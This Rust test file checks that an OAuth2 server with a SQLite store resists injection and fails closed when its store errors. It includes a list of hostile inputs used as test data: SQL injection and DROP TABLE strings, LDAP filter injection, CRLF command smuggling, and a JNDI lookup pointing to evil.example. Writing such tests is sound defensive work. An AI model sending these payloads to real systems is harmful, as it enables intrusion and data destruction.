//! Attacks on what is behind the server: text that would be a query, a store that is away.

use crate::everywhere::everywhere;
use crate::failing::Failing;
use oauth2_runtime::Paths;
use oauth2_runtime::prelude::*;
use std::sync::Arc;
use std::time::Duration;
use support::{AppScope, Browser, ISSUER, People, Photos, Reply, Unthrottled, clients, photos_on};

fn memory() -> Arc<dyn Store> {
    Arc::new(MemoryStore::new().allow_any_issuer())
}

/// What the file holds, table by table.
fn rows(file: &std::path::Path) -> Vec<(String, i64)> {
    let db = rusqlite::Connection::open(file).expect("the file");
    let mut names = db
        .prepare("SELECT name FROM sqlite_schema WHERE type = 'table' ORDER BY name")
        .expect("a query");
    let names = names.query_map([], |row| row.get(0)).expect("rows");
    let names: Vec<String> = names.map(|name| name.expect("a name")).collect();
    let count = |name: &String| -> i64 {
        let query = format!("SELECT count(*) FROM \"{name}\"");
        db.query_row(&query, [], |row| row.get(0)).expect("a count")
    };
    names
        .iter()
        .map(|name| (name.clone(), count(name)))
        .collect()
}

/// Photos whose clients stand in the database too.
#[oauth2_provider(
    grants(code, implicit, password, client_credentials, refresh_token),
    allow(implicit, password),
    login(form),
    scopes = AppScope
)]
struct InSqlite {
    #[oauth2(store, clients, client_credentials)]
    db: SqliteStore,
    #[oauth2(users)]
    people: People,
    #[oauth2(settings)]
    settings: Settings,
}

/// What a query, a path, a pattern or a protocol of a store would take for more than text.
const INJECTED: [&str; 18] = [
    "x' OR 1=1--",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "web'; DROP TABLE clients;--",
    "web' UNION SELECT * FROM grants--",
    "web\u{0}",
    "\u{0}",
    "*",
    "%",
    "_",
    "w%b",
    "?1",
    ":client_id",
    "code:other",
    "web\r\nDEL *",
    "*)(uid=*))(|(uid=*",
    "${jndi:ldap://evil.example/x}",
    "9223372036854775808",
];

const GROWING: [&str; 6] = [
    "access_tokens",
    "claims",
    "codes",
    "grants",
    "sessions",
    "consents",
];

/// Text of a request is a value in every query, and no part of a key.
/// attack-99
#[tokio::test]
async fn no_text_of_a_request_reaches_the_database_as_anything_but_a_value() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("oauth2.db");
    let db = SqliteStore::open(&file)
        .expect("a store")
        .without_waiting_for_the_disk();
    for client in clients() {
        db.insert(&client).await.expect("a new client");
    }
    let provider = InSqlite {
        db,
        people: People,
        settings: Settings::new(ISSUER).throttle(Arc::new(Unthrottled)),
    };
    let server = provider.build().expect("a server");
    let router: axum::Router = server.router();
    let mut app = Browser::new(&router);
    let code = app.code().await;
    let given = app.redeem(&code).await.text("refresh_token");
    let before = rows(&file);
    assert!(before.len() > 6, "{before:?}");
    for text in INJECTED {
        for (place, reply) in everywhere(&router, text).await {
            assert!(reply.status.as_u16() < 500, "{place}: {reply:?}");
            assert!(
                !reply.body.contains("access_token") || reply.status == 200,
                "{place}"
            );
        }
        let stranger = Browser::new(&router).ask_code(&[("client_id", text)]).await;
        stranger.is_page(400);
        let none = app
            .token(text, &[("grant_type", "client_credentials")])
            .await;
        none.is_error(401, "invalid_client");
    }
    // Codes and tokens came, for requests that were good beside the text; nothing was registered,
    // revoked, dropped or added.
    let fixed = |(name, _): &(String, i64)| !GROWING.contains(&name.as_str());
    let before: Vec<_> = before.into_iter().filter(fixed).collect();
    let after: Vec<_> = rows(&file).into_iter().filter(fixed).collect();
    assert_eq!(after, before);
    assert_eq!(app.refresh(&given).await.status, 200);
}

/// A provider that is built of something missing does not start.
/// attack-102
#[tokio::test]
async fn without_an_issuer_a_lasting_store_or_good_secrets_nothing_starts() {
    let built = |store: Arc<dyn Store>, settings: Settings, more: Option<Client>| {
        let mut all = clients();
        all.extend(more);
        let clients = MemoryClients::new(all).expect("clients");
        let people = People;
        let provider = Photos {
            store,
            clients,
            people,
            settings,
        };
        provider.build()
    };
    assert!(built(memory(), Settings::new(ISSUER), None).is_ok());
    for wrong in [
        Settings::default(),
        Settings::new(""),
        Settings::new("http://photos.example"),
        Settings::new("https://"),
        Settings::new(ISSUER).access_token_ttl(Duration::ZERO),
        Settings::new(ISSUER).code_ttl(Duration::ZERO),
        Settings::new(ISSUER).session_ttl(Duration::MAX),
        Settings::new(ISSUER).paths(Paths::default().token("/oauth/authorize")),
    ] {
        assert!(built(memory(), wrong, None).is_err());
    }
    let forgets = Arc::new(MemoryStore::new());
    assert!(built(forgets, Settings::new(ISSUER), None).is_err());
    let weak = Client::confidential("weak", &ClientSecret::given("short"));
    let weak = weak.build().expect("a client");
    assert!(built(memory(), Settings::new(ISSUER), Some(weak)).is_err());
    assert!(
        Client::confidential("x", &ClientSecret::given(""))
            .build()
            .is_err()
    );
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("broken.db");
    std::fs::write(&file, "this is no database, it is a text of some length").expect("a file");
    assert!(SqliteStore::open(&file).is_err());
    assert!(SqliteStore::open(folder.path()).is_err());
    assert!(SqliteStore::open(folder.path().join("none/at/all.db")).is_err());
    no_door_opens_while_the_store_is_away().await;
}

const VERBS: [&str; 14] = [
    "claim_once",
    "insert_code",
    "take_code",
    "insert_access",
    "find_access",
    "find_refresh",
    "rotate_refresh",
    "revoke_access",
    "revoke_grant",
    "insert_session",
    "find_session",
    "end_session",
    "remember_consent",
    "has_consent",
];

/// A verb that fails is never read as a yes: each request is made with it failing.
async fn no_door_opens_while_the_store_is_away() {
    let mut met = 0;
    for verb in VERBS {
        let store = Failing::new();
        let (router, ..) = photos_on(store.clone());
        let mut browser = Browser::new(&router);
        let code = browser.code().await;
        let given = browser.redeem(&code).await;
        let with = With {
            stranger: Browser::new(&router),
            access: given.text("access_token"),
            refresh: given.text("refresh_token"),
            fresh: browser.code().await,
            page: browser.ask_code(&[("scope", "photos:write")]).await,
            out: browser
                .get("/logout")
                .await
                .field("ticket")
                .expect("a ticket"),
        };
        store.at(verb);
        for which in 0..12 {
            let before = store.calls(verb);
            let reply = with.ask(&mut browser, which).await;
            if store.calls(verb) > before {
                met += 1;
                is_no_yes(verb, &reply);
            }
        }
    }
    assert!(met >= VERBS.len(), "only {met} requests met a failure");
}

/// Good values, for requests that would each be answered with a yes.
struct With {
    stranger: Browser,
    access: String,
    refresh: String,
    fresh: String,
    page: Reply,
    out: String,
}

impl With {
    async fn ask(&self, browser: &mut Browser, which: usize) -> Reply {
        match which {
            0 => browser.redeem(&self.fresh).await,
            1 => browser.refresh(&self.refresh).await,
            2 => {
                browser
                    .token("web", &[("grant_type", "client_credentials")])
                    .await
            }
            3 => browser.with_token("/api/me", &self.access).await,
            4 => browser.with_token("/api/maybe", &self.access).await,
            5 => browser.ask_code(&[]).await,
            6 => browser.decide(&self.page, "allow").await,
            7 => self.stranger.clone().sign_in().await,
            8 => {
                browser
                    .post_as("web", "/oauth/introspect", &[("token", &self.access)])
                    .await
            }
            9 => {
                browser
                    .post_as("web", "/oauth/revoke", &[("token", &self.access)])
                    .await
            }
            10 => {
                browser
                    .post_as("web", "/oauth/revoke", &[("token", &self.refresh)])
                    .await
            }
            _ => browser.post("/logout", &[("ticket", &self.out)]).await,
        }
    }
}

fn is_no_yes(verb: &str, reply: &Reply) {
    let told = reply
        .query("error")
        .is_some_and(|code| code == "server_error");
    assert!(reply.status == 503 || told, "{verb}: {reply:?}");
    assert_eq!(reply.query("code"), None, "{verb}");
    assert!(!reply.body.contains("token\""), "{verb}: {reply:?}");
    assert!(
        !reply.headers.contains_key("set-cookie"),
        "{verb}: {reply:?}"
    );
}
